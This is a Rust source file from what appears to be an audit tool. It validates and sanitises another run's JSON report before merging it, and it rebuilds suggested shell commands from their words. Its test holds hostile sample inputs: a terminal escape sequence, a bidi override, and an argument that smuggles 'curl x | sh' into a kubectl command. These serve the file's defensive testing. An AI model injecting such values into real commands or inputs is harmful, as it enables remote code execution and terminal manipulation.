//! `--merge` input: another run's `audit -o json` document is input like any
//! other file, and may have been written by anyone. Every string is
//! sanitised before it is kept (escapes, bidi controls and secrets as a table
//! shows them, and cut at its 2 KiB), every code must be one this
//! version knows, every time must parse, and each suggested command's line is
//! rebuilt from its words: the document's own `shell` is never printed.

use serde_json::Value;

use super::AuditJson;
use crate::report::ShardError;
use crate::report::diagnosis::DiagnosisJson;

pub fn read(value: Value, what: &str) -> Result<AuditJson, ShardError> {
    crate::report::read_shard(value, what, "audit -o json", check)
}

/// The codes, times and commands of a document; the commands' lines and the
/// causes' summaries rebuilt from what this version knows.
fn check(mut doc: AuditJson) -> Result<AuditJson, String> {
    time("evaluated_at", &doc.evaluated_at)?;
    if let Some(span) = &doc.span {
        time("span.first", &span.first)?;
        time("span.last", &span.last)?;
    }
    if let Some(code) = doc.by_status.keys().find(|c| c.parse::<u16>().is_err()) {
        return Err(unknown("status", code));
    }
    for f in &mut doc.findings {
        time("first_seen", &f.first_seen)?;
        time("last_seen", &f.last_seen)?;
        for bucket in &f.timeline {
            time("timeline", &bucket.at)?;
        }
        if let Some(stale) = &f.stale {
            time("stale_since", &stale.stale_since)?;
        }
        let method = &f.identity.attribution.method;
        if !["exact", "guess", "unknown"].contains(&method.as_str()) {
            return Err(unknown("attribution", method));
        }
        f.diagnosis = DiagnosisJson::brief(&f.diagnosis.to_diagnosis());
    }
    Ok(doc)
}

fn time(field: &str, value: &str) -> Result<(), String> {
    crate::timefmt::parse_instant(value)
        .map(|_| ())
        .map_err(|_| format!("{field} {value:?} is not an RFC 3339 time"))
}

fn unknown(field: &str, value: &str) -> String {
    format!("{field} {value:?} is not one this version knows")
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    #[test]
    fn strings_are_sanitised_and_lines_rebuilt() {
        let mut v = json!({"a": ["x\u{1b}]52;c;aGk=\u{7}y", {"k\u{202e}": "z"}]});
        crate::sanitize::sanitize_json(&mut v);
        let text = v.to_string();
        assert!(
            !text.contains('\u{1b}') && !text.contains('\u{202e}'),
            "{text}"
        );
        let c: crate::diagnosis::Command = serde_json::from_value(json!({
            "argv": ["kubectl", "get", "pods; curl x | sh"],
            "pipe": [], "output": null, "expect": null, "placeholders": false,
            "shell": "kubectl get pods; curl x | sh",
        }))
        .unwrap();
        assert_eq!(c.shell(), "kubectl get 'pods; curl x | sh'");
    }
}
